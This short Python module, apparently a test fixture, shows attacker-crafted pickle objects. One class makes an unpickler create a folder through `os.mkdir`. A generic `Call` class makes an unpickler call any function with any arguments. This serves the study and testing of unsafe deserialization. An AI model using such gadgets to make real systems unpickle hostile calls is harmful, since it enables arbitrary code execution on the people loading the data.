"""An attacker's content of a pickle."""

import os
from pathlib import Path


class Payload:
    """Creates a folder when an unpickler runs it."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self):
        return os.mkdir, (str(self.path), )


class Call:
    """Makes an unpickler call a function."""

    def __init__(self, function, *arguments) -> None:
        self.call = function, arguments

    def __reduce__(self):
        return self.call
